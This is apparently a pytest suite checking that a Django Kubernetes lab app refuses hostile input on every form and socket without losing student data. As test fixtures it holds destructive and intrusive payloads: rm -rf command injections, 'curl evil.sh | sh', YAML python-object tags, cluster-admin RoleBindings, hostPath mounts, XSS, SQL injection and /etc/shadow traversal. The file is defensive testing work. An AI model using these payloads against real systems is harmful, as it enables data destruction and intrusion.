"""Hostile inputs through every surface that takes input: each gets a clear message naming the problem,
never a 5xx, and nothing the student had saved before (draft, revisions, DNS record, help requests) is lost.

The views run through Django's test client and the lab socket through the ASGI app: no cluster is
needed (the session's cluster is unreachable, and nothing hostile may get as far as asking it).
"""

from __future__ import annotations

import asyncio
import json
import re
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from asgiref.sync import sync_to_async
from channels.routing import URLRouter
from django.urls import reverse

from clouds.models import CloudCredential, Cluster
from labs.live import consumer as lab_consumer
from labs.models import Cohort, DnsRecord, HelpRequest, LabSession, ManifestRevision
from labs.routing import websocket_urlpatterns as lab_socket_routes
from tests.labs.helpers import make_session
from tests.labs.ws import WebsocketCommunicator
from tests.manifests import DEPLOYMENT, SERVICE, both

pytestmark = pytest.mark.django_db

SAVED_DRAFT = "# my work in progress\n" + both()
SAVED_REVISION = both()


# ---- what a student has saved, and that it is still there after an attack -----------------------------


@pytest.fixture
def student(make_user):
    return make_user("alice")


@pytest.fixture
def lab(student, settings):
    """A running session with a draft, an applied revision, a DNS record and an open help request."""
    settings.LIVEOPS_DNS_ZONE = "lab.test"
    settings.LIVEOPS_DNS_UPDATE_SERVER = "127.0.0.1:9"  # never reached: every hostile record is refused first
    cohort = Cohort.objects.create(name="Class A")
    cohort.students.add(student)
    session = make_session(student, draft=SAVED_DRAFT, cohort=cohort)
    ManifestRevision.objects.create(session=session, number=1, text=SAVED_REVISION, status="applied")
    DnsRecord.objects.create(session=session, name="alice.lab.test", address="127.0.0.10")
    HelpRequest.objects.create(session=session, question="why pending?")
    return session


def saved(session: LabSession) -> dict:
    session = LabSession.objects.get(pk=session.pk)
    return {
        "state": session.state,
        "draft": session.draft,
        "revisions": list(session.revisions.order_by("number").values_list("number", "text", "status")),
        "dns": list(DnsRecord.objects.filter(session=session).values_list("name", "address")),
        "help": list(session.help_requests.values_list("question", "state")),
    }


def assert_nothing_lost(before: dict, session: LabSession, *, draft_may_become: str | None = None) -> None:
    after = saved(session)
    if draft_may_become is not None and after["draft"] == draft_may_become:
        after["draft"] = before["draft"]  # the editor's text is kept as the draft: that is not a loss
    assert after == before


def page_text(response) -> str:
    return response.content.decode("utf-8", "replace")


def problems_of(response) -> list[dict]:
    match = re.search(r'<script type="application/json" data-problems>(.*?)</script>', page_text(response), re.S)
    assert match, page_text(response)[:500]
    return json.loads(match.group(1))


def mentions(response, *words: str) -> bool:
    text = page_text(response).lower()
    return any(word.lower() in text for word in words)


# ---- the editor: validate and apply ----------------------------------------------------------------------


def dep(*pairs: tuple[str, str]) -> str:
    text = DEPLOYMENT
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    return text


def svc(*pairs: tuple[str, str]) -> str:
    text = SERVICE
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    return text


def _laughs(levels: int = 9) -> str:
    lines = ['lol0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels + 1):
        lines.append(f"lol{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _pod_spec(extra: str) -> str:
    """The Deployment with `extra` (indented as pod spec fields) added to its pod template."""
    return dep(("      containers:\n", extra + "      containers:\n"))


def _container(extra: str) -> str:
    """The Deployment with `extra` (indented as container fields) added to its container."""
    return dep(("          image: nginx:1.27\n", "          image: nginx:1.27\n" + extra))


def _named(name: str) -> str:
    return dep(("  name: lb-test\n", f"  name: {json.dumps(name)}\n")) + "---\n" + SERVICE


def _kind(api_version: str, kind: str, name: str = "x", extra: str = "") -> str:
    return f"apiVersion: {api_version}\nkind: {kind}\nmetadata:\n  name: {name}\n{extra}"


NESTED_FLOW = "a: " + "[" * 5000 + "]" * 5000 + "\n"
NESTED_BLOCK = "".join(" " * i + "k:\n" for i in range(180)) + " " * 180 + "v: 1\n"  # under 20,000 bytes
NESTED_JSON_OBJECT = "spec: " + '{"a": ' * 2500 + "1" + "}" * 2500 + "\n"


@dataclass(frozen=True)
class Text:
    """A text typed into the editor, and words of which one must name the problem."""

    text: str
    names: tuple[str, ...]


EDITOR_TEXTS = {
    # YAML that costs the server more than it looks
    "billion-laughs-anchors": Text(_laughs(), ("alias", "anchor", "kind", "apiVersion")),
    "billion-laughs-inside-a-deployment": Text(
        dep(("  name: lb-test\n", "  name: lb-test\n  labels: &a {x: y}\n  annotations: *a\n")) + _laughs(),
        ("alias", "anchor", "annotation", "document")),
    "merge-key-bomb": Text('a: &a {x: 1}\nb: &b {<<: [*a, *a, *a, *a]}\nc: {<<: [*b, *b, *b, *b]}\n',
                           ("alias", "anchor", "kind", "apiVersion")),
    "deeply-nested-flow-lists": Text(NESTED_FLOW, ("nest", "deep", "kind", "apiVersion", "yaml")),
    "deeply-nested-block-mappings": Text(NESTED_BLOCK, ("nest", "deep", "kind", "apiVersion", "yaml")),
    "deeply-nested-json-objects": Text(NESTED_JSON_OBJECT, ("nest", "deep", "kind", "apiVersion", "yaml")),
    "hundreds-of-documents": Text("---\n".join([SERVICE] * 400), ("documents", "bytes")),
    "hundreds-of-empty-documents-then-fifty": Text("---\n" * 300 + "".join(
        f"---\nkind: Service\nmetadata: {{name: s{i}}}\n" for i in range(50)), ("documents",)),
    "a-single-200kb-line": Text("x: " + "a" * 200_000 + "\n", ("bytes",)),
    "python-object-tag": Text("!!python/object/apply:os.system ['rm -rf /']\n", ("tag", "python", "yaml")),
    "python-name-tag-in-a-field": Text(dep(("  replicas: 3\n", "  replicas: !!python/name:os.system\n")),
                                       ("tag", "python", "yaml")),
    "duplicate-keys": Text(dep(("  replicas: 3\n", "  replicas: 3\n  replicas: 5\n")) + "---\n" + SERVICE,
                           ("twice", "duplicate")),
    "a-bare-scalar": Text("just some words\n", ("mapping", "object", "kind")),
    "a-top-level-list": Text("- a\n- b\n", ("mapping", "object", "kind", "list")),
    "yaml-syntax-garbage": Text("kind: [Service\nmetadata: {{{\n", ("yaml", "line", "expected")),
    "escape-sequences": Text("kind: Service\x1b[2J\x1b[0m\n", ("U+001B", "control")),
    "nul-character": Text("kind: Service\x00\nmetadata: {name: x}\n", ("U+0000", "NUL", "control", "null")),
    "bidi-override-characters": Text(dep(("  name: lb-test\n", "  name: lb\u202etset\n")),
                                     ("U+202E", "name", "character")),
    # kinds the lab does not allow, cluster-scoped ones above all
    "kind-namespace": Text(_kind("v1", "Namespace", "kube-system"), ("Namespace",)),
    "kind-clusterrole": Text(_kind("rbac.authorization.k8s.io/v1", "ClusterRole", "pwn",
                                   "rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]\n"), ("ClusterRole",)),
    "kind-clusterrolebinding": Text(_kind("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "pwn",
                                          "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, "
                                          "name: cluster-admin}\nsubjects: [{kind: Group, name: system:authenticated,"
                                          " apiGroup: rbac.authorization.k8s.io}]\n"), ("ClusterRoleBinding",)),
    "kind-node": Text(_kind("v1", "Node", "node-1"), ("Node",)),
    "kind-persistentvolume-with-hostpath": Text(_kind("v1", "PersistentVolume", "pv", "spec: {capacity: {storage: 1Gi},"
                                                      " accessModes: [ReadWriteOnce], hostPath: {path: /}}\n"),
                                                ("PersistentVolume",)),
    "kind-secret": Text(_kind("v1", "Secret", "s", "stringData: {a: b}\n"), ("Secret",)),
    "kind-pod-privileged": Text(_kind("v1", "Pod", "p", "spec:\n  containers: [{name: c, image: nginx, "
                                      "securityContext: {privileged: true}}]\n"), ("Pod", "privileged")),
    "kind-with-html": Text(_kind("v1", "<img src=x onerror=alert(1)>"), ("kind",)),
    "apiversion-with-path": Text(_kind("../../v1", "Service"), ("apiVersion", "kind")),
    "unknown-kind-and-group": Text(_kind("evil.example.com/v1", "Backdoor"), ("Backdoor", "kind")),
    # namespaces other than the session's own
    "foreign-namespace-kube-system": Text(dep(("  name: lb-test\n", "  name: lb-test\n  namespace: kube-system\n")),
                                          ("namespace",)),
    "foreign-namespace-of-another-student": Text(
        svc(("  name: lb-test-svc\n", "  name: lb-test-svc\n  namespace: lab-bob-12345678\n")), ("namespace",)),
    "namespace-with-path-characters": Text(dep(("  name: lb-test\n", "  name: lb-test\n  namespace: ../default\n")),
                                           ("namespace",)),
    # privileged and host-level pods
    "privileged-container": Text(_container("          securityContext: {privileged: true}\n"), ("privileged",)),
    "privilege-escalation": Text(_container("          securityContext: {allowPrivilegeEscalation: true}\n"),
                                 ("allowPrivilegeEscalation",)),
    "capability-sys-admin": Text(_container("          securityContext: {capabilities: {add: [SYS_ADMIN]}}\n"),
                                 ("capabilities",)),
    "host-network": Text(_pod_spec("      hostNetwork: true\n"), ("hostNetwork",)),
    "host-pid": Text(_pod_spec("      hostPID: true\n"), ("hostPID",)),
    "host-ipc": Text(_pod_spec("      hostIPC: true\n"), ("hostIPC",)),
    "host-path-volume": Text(_pod_spec("      volumes: [{name: root, hostPath: {path: /}}]\n"), ("hostPath", "volume")),
    "host-port": Text(dep(("- containerPort: 80\n", "- containerPort: 80\n              hostPort: 22\n")),
                      ("hostPort",)),
    "node-name-pinning": Text(_pod_spec("      nodeName: control-plane\n"), ("nodeName",)),
    "ephemeral-containers": Text(_pod_spec("      ephemeralContainers: [{name: dbg, image: busybox}]\n"),
                                 ("ephemeralContainers",)),
    "command-override": Text(_container("          command: [sh, -c, 'rm -rf / --no-preserve-root']\n"), ("command",)),
    "image-from-another-registry": Text(dep(("image: nginx:1.27", "image: evil.example.com/miner:latest")), ("image",)),
    "image-with-shell": Text(dep(("image: nginx:1.27", "image: 'nginx; curl evil.sh | sh'")), ("image",)),
    "owner-references": Text(dep(("  name: lb-test\n", "  name: lb-test\n  ownerReferences: [{apiVersion: v1, "
                                  "kind: Namespace, name: default, uid: 6a0f0c35-8c6b-4e69-9f8e-000000000000}]\n")),
                             ("ownerReferences",)),
    "finalizers": Text(dep(("  name: lb-test\n", "  name: lb-test\n  finalizers: [example.com/never]\n")),
                       ("finalizers",)),
    "balancer-aimed-at-an-existing-one": Text(
        svc(("  name: lb-test-svc\n", "  name: lb-test-svc\n  annotations:\n"
             "    loadbalancer.openstack.org/load-balancer-id: 1d2c3b4a\n")), ("annotation", "load-balancer-id")),
    "service-external-ips": Text(svc(("  type: LoadBalancer\n", "  type: LoadBalancer\n  externalIPs: [10.0.0.1]\n")),
                                 ("externalIPs",)),
    "service-of-type-externalname": Text(svc(("  type: LoadBalancer\n", "  type: ExternalName\n  externalName: "
                                              "kubernetes.default.svc\n")), ("type", "LoadBalancer")),
    # huge and impossible numbers
    "replicas-1e308": Text(dep(("  replicas: 3\n", "  replicas: 1e308\n")), ("replicas",)),
    "replicas-inf": Text(dep(("  replicas: 3\n", "  replicas: .inf\n")), ("replicas",)),
    "replicas-beyond-int64": Text(dep(("  replicas: 3\n", "  replicas: 99999999999999999999999\n")), ("replicas",)),
    "replicas-negative": Text(dep(("  replicas: 3\n", "  replicas: -3\n")), ("replicas",)),
    "port-99999999999": Text(svc(("      port: 80\n", "      port: 99999999999\n")), ("port",)),
    "container-port-zero": Text(dep(("containerPort: 80", "containerPort: 0")), ("containerPort", "port")),
    "node-port-out-of-range": Text(svc(("      port: 80\n", "      port: 80\n      nodePort: 1\n")),
                                   ("nodePort",)),
    # names with shell, HTML and path characters
    "name-dot-dot-slash": Text(_named("../../etc/passwd"), ("name",)),
    "name-percent-encoded-dots": Text(_named("%2e%2e%2f"), ("name",)),
    "name-script-tag": Text(_named("<script>alert(1)</script>"), ("name",)),
    "name-shell-command": Text(_named("web; rm -rf /"), ("name",)),
    "name-with-nul": Text(_named("web\x00x"), ("name", "U+0000", "control")),
    "name-unicode-confusable": Text(_named("w\u0435b"), ("name",)),  # a Cyrillic "е"
    "name-300-characters": Text(_named("a" * 300), ("name", "characters")),
    "label-value-with-html": Text(dep(("        app: lb-test\n", "        app: '<b>x</b>'\n")),
                                  ("label", "selector", "match")),
}


def post_editor(client, session, what: str, text: str):
    return client.post(reverse(f"labs:{what}", args=[session.id]), {"manifest": text, "action": "apply"})


@pytest.mark.parametrize("what", ["validate", "apply"])
@pytest.mark.parametrize("case", list(EDITOR_TEXTS.values()), ids=list(EDITOR_TEXTS))
def test_it_explains_a_hostile_editor_text_and_applies_nothing(client, student, lab, what, case):
    before = saved(lab)
    client.force_login(student)
    r = post_editor(client, lab, what, case.text)
    assert r.status_code == 200, page_text(r)[:500]
    problems = problems_of(r)
    assert problems, "a hostile text must be refused with a problem"
    named = " ".join(f"{p['message']} {p.get('field') or ''} {p.get('hint') or ''}" for p in problems).lower()
    assert any(word.lower() in named for word in case.names), named[:1000]
    if what == "apply":
        assert b"nothing was applied" in r.content
    assert_nothing_lost(before, lab, draft_may_become=case.text)


RAW_BODIES = {
    "latin-1-bytes": (b"manifest=kind%3A+Service%0Ametadata%3A%0A++name%3A+caf%E9%0A", ("UTF-8",)),
    "random-binary": (b"manifest=" + quote(bytes(range(256)) * 4, safe="").encode(), ("UTF-8",)),
    "utf-16-with-bom": (b"manifest=" + quote("kind: Service\n".encode("utf-16"), safe="").encode(), ("UTF-8",)),
    "truncated-utf-8-sequence": (b"manifest=kind%3A+Service%0A%23+%E2%82", ("UTF-8",)),
    "overlong-utf-8-slash": (b"manifest=name%3A+%C0%AF%0A", ("UTF-8",)),
}


@pytest.mark.parametrize("what", ["validate", "apply"])
@pytest.mark.parametrize("body,names", list(RAW_BODIES.values()), ids=list(RAW_BODIES))
def test_it_explains_bytes_that_are_not_utf8_and_keeps_the_draft(client, student, lab, what, body, names):
    before = saved(lab)
    client.force_login(student)
    r = client.post(reverse(f"labs:{what}", args=[lab.id]), data=body, content_type="application/x-www-form-urlencoded")
    assert r.status_code == 200
    problems = problems_of(r)
    assert problems and any(any(n in p["message"] for n in names) for p in problems)
    assert_nothing_lost(before, lab)


@pytest.mark.parametrize("what", ["validate", "apply"])
def test_it_refuses_a_10mb_body_with_a_message_and_keeps_everything(client, student, lab, what):
    before = saved(lab)
    client.force_login(student)
    r = client.post(reverse(f"labs:{what}", args=[lab.id]), {"manifest": "a: b\n" * (2 * 1024 * 1024)})
    assert 400 <= r.status_code < 500
    assert mentions(r, "too large", "too big", "larger than")
    assert_nothing_lost(before, lab)


@pytest.mark.parametrize("what", ["validate", "apply"])
def test_it_treats_a_manifest_sent_as_several_fields_as_one_text(client, student, lab, what):
    before = saved(lab)
    client.force_login(student)
    r = client.post(reverse(f"labs:{what}", args=[lab.id]), {"manifest": ["kind: Namespace\n", "kind: Node\n"],
                                                              "action": "apply"})
    assert r.status_code == 200 and problems_of(r)
    assert_nothing_lost(before, lab, draft_may_become="kind: Node\n")


# ---- the live panel's object actions ------------------------------------------------------------------

HOSTILE_NAMES = {
    "dot-dot": "..",
    "dot-dot-slash-encoded": "..%2F..%2Fnamespaces",
    "percent-encoded-dots": "%2e%2e",
    "script-tag": "<script>alert(1)<%2Fscript>",
    "shell": "web;rm -rf %2F",
    "nul": "web%00",
    "confusable": "w%D0%B5b",
    "upper-case": "WEB",
    "too-long": "a" * 300,
    "newline": "web%0Adelete",
    "query-smuggling": "web%3Fdry%3DAll",
}


def object_url(route, session, *args):
    base = reverse(route, args=[session.id, *(["placeholder"] * len(args))])
    for arg in args:
        base = base.replace("placeholder", arg, 1)
    return base


OBJECT_ACTIONS = [("GET", "labs:object_describe", "services"), ("GET", "labs:object_yaml", "deployments"),
                  ("POST", "labs:object_edit", "deployments"), ("POST", "labs:object_delete", "services"),
                  ("POST", "labs:object_scale", None), ("POST", "labs:object_restart", None),
                  ("GET", "labs:object_logs", None), ("POST", "labs:object_pause", None),
                  ("POST", "labs:object_resume", None), ("POST", "labs:object_rollback", None)]


@pytest.mark.parametrize("method,route,kind", OBJECT_ACTIONS, ids=[a[1].split(":")[1] for a in OBJECT_ACTIONS])
@pytest.mark.parametrize("name", list(HOSTILE_NAMES.values()), ids=list(HOSTILE_NAMES))
def test_it_refuses_a_hostile_object_name_before_the_cluster(client, student, lab, method, route, kind, name):
    before = saved(lab)
    client.force_login(student)
    url = object_url(route, lab, *([kind, name] if kind else [name]))
    r = client.get(url) if method == "GET" else client.post(url, {"replicas": "1"})
    assert r.status_code == 404, (r.status_code, page_text(r)[:300])
    assert mentions(r, "not a valid", "not found", "does not exist")
    assert_nothing_lost(before, lab)


HOSTILE_KINDS = {"namespaces": "namespaces", "nodes": "nodes", "clusterroles": "clusterroles",
                 "secrets": "secrets", "dot-dot": "..", "script": "%3Cscript%3E", "events": "events"}


@pytest.mark.parametrize("route", ["labs:object_describe", "labs:object_yaml", "labs:object_delete"])
@pytest.mark.parametrize("kind", list(HOSTILE_KINDS.values()), ids=list(HOSTILE_KINDS))
def test_it_refuses_a_kind_outside_the_panel(client, student, lab, route, kind):
    before = saved(lab)
    client.force_login(student)
    url = object_url(route, lab, kind, "web")
    r = client.post(url) if route.endswith("delete") else client.get(url)
    assert r.status_code == 404 and mentions(r, "no object kind", "cannot be changed", "not found")
    assert_nothing_lost(before, lab)


HOSTILE_REPLICAS = {"1e308": "1e308", "huge": "99999999999999999999", "negative": "-1", "nan": "NaN",
                    "html": "<script>", "empty": "", "float": "2.5", "above-the-lab-limit": "6"}


@pytest.mark.parametrize("replicas", list(HOSTILE_REPLICAS.values()), ids=list(HOSTILE_REPLICAS))
def test_it_explains_a_hostile_replica_count(client, student, lab, replicas):
    before = saved(lab)
    client.force_login(student)
    r = client.post(object_url("labs:object_scale", lab, "web"), {"replicas": replicas})
    assert r.status_code == 400 and mentions(r, "Replicas must be a whole number")
    assert_nothing_lost(before, lab)


HOSTILE_LOG_QUERIES = {"container-dot-dot": "container=..%2F..", "container-html": "container=%3Cb%3E",
                       "container-nul": "container=a%00b"}


@pytest.mark.parametrize("query", list(HOSTILE_LOG_QUERIES.values()), ids=list(HOSTILE_LOG_QUERIES))
def test_it_refuses_a_hostile_container_name(client, student, lab, query):
    client.force_login(student)
    r = client.get(object_url("labs:object_logs", lab, "web-1") + "?lines=1e308&" + query)
    assert r.status_code == 404 and mentions(r, "not a valid container name")


# ---- the DNS form -----------------------------------------------------------------------------------------

HOSTILE_RECORDS = {
    "label-dot-dot": ("..", "127.0.0.20"),
    "label-with-dots-aiming-outside-the-zone": ("evil.example.com.", "127.0.0.20"),
    "label-script": ("<script>alert(1)</script>", "127.0.0.20"),
    "label-shell": ("x; rm -rf /", "127.0.0.20"),
    "label-nul": ("x\x00y", "127.0.0.20"),
    "label-confusable": ("\u0430lice", "127.0.0.20"),
    "label-too-long": ("a" * 64, "127.0.0.20"),
    "label-10k": ("a" * 10_000, "127.0.0.20"),
    "label-wildcard": ("*", "127.0.0.20"),
    "label-empty": ("", "127.0.0.20"),
    "address-not-an-ip": ("bob", "localhost"),
    "address-out-of-range": ("bob", "999.999.999.999"),
    "address-huge-number": ("bob", "99999999999"),
    "address-ipv6": ("bob", "::1"),
    "address-html": ("bob", "<img src=x onerror=alert(1)>"),
    "address-with-port": ("bob", "127.0.0.1:53"),
    "name-of-another-student": ("bob", "127.0.0.20"),
}


@pytest.mark.parametrize("label,address", list(HOSTILE_RECORDS.values()), ids=list(HOSTILE_RECORDS))
def test_it_explains_a_hostile_dns_record_and_keeps_the_old_one(client, student, lab, make_user, label, address):
    other = make_session(make_user("bob"))
    DnsRecord.objects.create(session=other, name="bob.lab.test", address="127.0.0.30")
    before = saved(lab)
    client.force_login(student)
    r = client.post(reverse("labs:dns_record", args=[lab.id]), {"label": label, "address": address})
    assert r.status_code == 200
    text = page_text(r)
    assert 'class="error' in text or "aria-invalid" in text, text[:1000]
    assert "<script>alert" not in text and "<img src=x" not in text
    assert_nothing_lost(before, lab)
    assert DnsRecord.objects.get(session=other).name == "bob.lab.test"


# ---- raising a hand -------------------------------------------------------------------------------------

HOSTILE_QUESTIONS = {"10k-characters": ("x" * 10_000, "at most"), "html": ("<script>alert(1)</script>", None),
                     "nul": ("why\x00", None), "rtl-override": ("\u202eplh", None)}


@pytest.mark.parametrize("question,error", list(HOSTILE_QUESTIONS.values()), ids=list(HOSTILE_QUESTIONS))
def test_it_answers_a_hostile_question_safely(client, student, lab, question, error):
    lab.help_requests.update(state=HelpRequest.State.ANSWERED, answer="look at the selector")
    before = saved(lab)
    client.force_login(student)
    r = client.post(reverse("labs:raise_hand", args=[lab.id]), {"question": question})
    assert r.status_code == 200
    text = page_text(r)
    assert "<script>alert" not in text
    after = saved(lab)
    if error:
        assert error in text and after == before
    else:
        assert "Your hand is raised" in text
        assert after["help"][1:] == before["help"]  # the new hand is added, the answered one kept
        assert {**after, "help": before["help"]} == before


# ---- joining a cohort -----------------------------------------------------------------------------------

HOSTILE_CODES = {"script": "<script>alert(1)</script>", "sql": "' OR 1=1 --", "nul": "AB\x00CD",
                 "10k": "A" * 10_000, "confusable": "\u0410BCDEF", "blank": "   "}


@pytest.mark.parametrize("code", list(HOSTILE_CODES.values()), ids=list(HOSTILE_CODES))
def test_it_explains_a_hostile_join_code(client, make_user, code):
    Cohort.objects.create(name="Real", code="ABCDEF")
    user = make_user("carol")
    client.force_login(user)
    r = client.post(reverse("labs:join"), {"code": code}, follow=True)
    assert r.status_code == 200
    assert mentions(r, "no cohort has this code", "type the code")
    assert "<script>alert" not in page_text(r)
    assert not user.cohorts.exists()


HOSTILE_TOKENS = {"dot-dot": "..", "percent-dots": "%2e%2e", "script": "%3Cscript%3E", "nul": "a%00b",
                  "long": "a" * 5000}


@pytest.mark.parametrize("token", list(HOSTILE_TOKENS.values()), ids=list(HOSTILE_TOKENS))
def test_it_explains_a_hostile_join_link(client, make_user, token):
    user = make_user("carol")
    client.force_login(user)
    r = client.post(f"/join/{token}/")
    assert r.status_code == 404 and mentions(r, "no cohort has this link", "not found")
    assert not user.cohorts.exists()


# ---- the login form -------------------------------------------------------------------------------------

HOSTILE_LOGINS = {
    "sql-injection": {"username": "' OR 1=1 --", "password": "x"},
    "nul-in-username": {"username": "alice\x00", "password": "pw-alice-123"},
    "10k-username": {"username": "a" * 10_000, "password": "x"},
    "html-username": {"username": "<script>alert(1)</script>", "password": "x"},
    "missing-fields": {},
    "confusable-username": {"username": "\u0430lice", "password": "pw-alice-123"},
}


@pytest.mark.parametrize("form", list(HOSTILE_LOGINS.values()), ids=list(HOSTILE_LOGINS))
def test_it_explains_a_hostile_login(client, student, form):
    r = client.post(reverse("login"), form, REMOTE_ADDR="203.0.113.50")
    assert r.status_code == 200
    assert mentions(r, "do not match", "required", "null characters", "enter a correct")
    assert "<script>alert" not in page_text(r)
    assert "_auth_user_id" not in client.session


def test_it_explains_a_login_body_that_is_not_utf8(client, student):
    r = client.post(reverse("login"), data=b"username=al%FFice&password=%FE%FF",
                    content_type="application/x-www-form-urlencoded", REMOTE_ADDR="203.0.113.51")
    assert r.status_code == 200 and mentions(r, "do not match", "enter a correct")


# ---- the admin's forms ------------------------------------------------------------------------------------

CREDENTIAL_FORM = {
    "name": "lab", "auth_url": "https://keystone.example.com:5000/v3", "username": "alice", "password": "pw",
    "application_credential_id": "", "application_credential_secret": "", "user_domain_name": "Default",
    "project_name": "lab", "project_domain_name": "Default", "region_name": "", "floating_network": "public",
    "availability_zone": "", "load_balancers": "octavia", "taikun_flavor": "", "taikun_vrid_start": "1",
    "taikun_vrid_end": "255",
}

HOSTILE_CREDENTIALS = {
    "auth-url-javascript": {"auth_url": "javascript:alert(1)"},
    "auth-url-file": {"auth_url": "file:///etc/passwd"},
    "auth-url-10k": {"auth_url": "https://" + "a" * 10_000 + ".example.com/v3"},
    "name-nul": {"name": "lab\x00"},
    "name-too-long": {"name": "x" * 500},
    "vrid-huge": {"taikun_vrid_start": "99999999999999999999"},
    "vrid-negative": {"taikun_vrid_end": "-1"},
    "vrid-1e308": {"taikun_vrid_end": "1e308"},
    "unknown-load-balancer-kind": {"load_balancers": "<script>"},
    "both-secrets": {"application_credential_id": "x", "application_credential_secret": "y"},
}


@pytest.fixture
def admin_client(client, make_user):
    client.force_login(make_user("root", is_staff=True, is_superuser=True))
    return client


@pytest.fixture
def stored(db):
    """A credential and a cluster an admin saved before."""
    credential = CloudCredential.objects.create(name="kept", auth_url="https://k.example.com/v3", username="u",
                                                password="p", project_name="p")
    cluster = Cluster.objects.create(name="kept", kubeconfig_path="/nonexistent", cloud_credential=credential)
    return credential, cluster


def stored_rows():
    return (list(CloudCredential.objects.order_by("pk").values()), list(Cluster.objects.order_by("pk").values()))


def form_errors(response) -> dict:
    assert response.status_code == 200, response.status_code
    return response.context["adminform"].form.errors


@pytest.mark.parametrize("change", list(HOSTILE_CREDENTIALS.values()), ids=list(HOSTILE_CREDENTIALS))
def test_it_explains_a_hostile_cloud_credential(admin_client, stored, change):
    before = stored_rows()
    r = admin_client.post(reverse("admin:clouds_cloudcredential_add"), {**CREDENTIAL_FORM, **change})
    assert form_errors(r)
    assert "<script>alert" not in page_text(r)
    assert stored_rows() == before
    r = admin_client.post(reverse("admin:clouds_cloudcredential_change", args=[stored[0].pk]),
                          {**CREDENTIAL_FORM, "name": "kept", **change})
    assert form_errors(r)
    assert stored_rows() == before


CLUSTER_FORM = {"name": "c2", "kubeconfig": "", "kubeconfig_path": "", "context": "", "load_balancers_by": "cluster",
                "lb_subnet": ""}
EXEC_KUBECONFIG = """apiVersion: v1
clusters: [{name: c, cluster: {server: 'https://127.0.0.1:6443'}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, 'rm -rf /']}}}]
"""

HOSTILE_CLUSTERS = {
    "kubeconfig-billion-laughs": {"kubeconfig": _laughs()},
    "kubeconfig-deep-nesting": {"kubeconfig": NESTED_FLOW},
    "kubeconfig-python-tag": {"kubeconfig": "!!python/object/apply:os.system ['id']\n"},
    "kubeconfig-a-scalar": {"kubeconfig": "hello\n"},
    "kubeconfig-exec-plugin": {"kubeconfig": EXEC_KUBECONFIG},
    "kubeconfig-nul": {"kubeconfig": "apiVersion: v1\x00\n"},
    "path-dot-dot": {"kubeconfig_path": "../../../../etc/passwd"},
    "path-etc-shadow": {"kubeconfig_path": "/etc/shadow"},
    "path-nul": {"kubeconfig_path": "/tmp/x\x00y"},
    "path-proc": {"kubeconfig_path": "/proc/self/environ"},
    "path-percent-dots": {"kubeconfig_path": "%2e%2e/%2e%2e/etc/passwd"},
    "name-html": {"name": "<script>alert(1)</script>" * 10, "kubeconfig_path": "/etc/passwd"},
    "product-balancers-without-credential": {"load_balancers_by": "product", "kubeconfig_path": "/etc/passwd"},
}


@pytest.mark.parametrize("change", list(HOSTILE_CLUSTERS.values()), ids=list(HOSTILE_CLUSTERS))
def test_it_explains_a_hostile_cluster(admin_client, stored, change):
    before = stored_rows()
    r = admin_client.post(reverse("admin:clouds_cluster_add"), {**CLUSTER_FORM, **change})
    assert form_errors(r) or "errornote" in page_text(r)
    assert "<script>alert" not in page_text(r)
    assert stored_rows() == before
    r = admin_client.post(reverse("admin:clouds_cluster_change", args=[stored[1].pk]),
                          {**CLUSTER_FORM, "name": "kept", **change})
    assert form_errors(r) or "errornote" in page_text(r)
    assert stored_rows() == before


# ---- the lab's WebSocket ----------------------------------------------------------------------------------

GARBAGE_FRAMES = {
    "binary": {"bytes": bytes(range(256))},
    "not-utf8-text-as-bytes": {"bytes": b"\xff\xfe resync \xc0\xaf"},
    "json-junk": {"text": '{"type": "session.changed", "what": "../../etc"}'},
    "handler-injection": {"text": '{"type": "websocket.disconnect"}'},
    "html": {"text": "<script>alert(1)</script>"},
    "nul": {"text": "\x00\x00\x00"},
    "deep-json": {"text": "[" * 100_000 + "]" * 100_000},
    "one-megabyte": {"text": "x" * 1_000_000},
    "empty": {"text": ""},
}


def socket_app():
    return URLRouter(lab_socket_routes)


async def _connect(session, user):
    communicator = WebsocketCommunicator(socket_app(), f"/ws/sessions/{session.id}/")
    communicator.scope["user"] = user
    connected, _ = await communicator.connect()
    assert connected
    await communicator.receive_from(timeout=10)  # the resync on connect
    return communicator


@pytest.mark.django_db(transaction=True)
@pytest.mark.asyncio
@pytest.mark.parametrize("frame", list(GARBAGE_FRAMES.values()), ids=list(GARBAGE_FRAMES))
async def test_it_ignores_garbage_frames_and_keeps_serving(make_user, frame, monkeypatch):
    monkeypatch.setattr(lab_consumer, "RESYNC_INTERVAL", 0.0)  # the resync below is answered at once
    user = await sync_to_async(make_user)("alice")
    session = await sync_to_async(make_session)(user, draft=SAVED_DRAFT)
    before = await sync_to_async(saved)(session)
    communicator = await _connect(session, user)
    await communicator.send_input({"type": "websocket.receive", **frame})
    await asyncio.sleep(0.05)
    assert await communicator.receive_nothing(timeout=0.2)
    # Still open, still answering: a resync brings the whole page.
    await communicator.send_to('{"resync": true}')
    assert "id=" in await communicator.receive_from(timeout=10)
    await communicator.disconnect()
    assert await sync_to_async(saved)(session) == before


HOSTILE_SOCKET_PATHS = {"not-a-uuid": "/ws/sessions/not-a-uuid/", "dot-dot": "/ws/sessions/../../admin/",
                        "percent-dots": "/ws/sessions/%2e%2e/", "nul": "/ws/sessions/%00/",
                        "unknown-session": "/ws/sessions/00000000-0000-0000-0000-000000000000/"}


@pytest.mark.django_db(transaction=True)
@pytest.mark.asyncio
@pytest.mark.parametrize("path", list(HOSTILE_SOCKET_PATHS.values()), ids=list(HOSTILE_SOCKET_PATHS))
async def test_it_closes_a_socket_on_a_hostile_path_with_a_code(make_user, path):
    from liveops.asgi import application

    user = await sync_to_async(make_user)("alice")
    communicator = WebsocketCommunicator(application, path, headers=[(b"host", b"localhost"),
                                                                      (b"origin", b"http://localhost")])
    communicator.scope["user"] = user
    await communicator.send_input({"type": "websocket.connect"})
    first = await communicator.receive_output(5)
    if first["type"] == "websocket.accept":
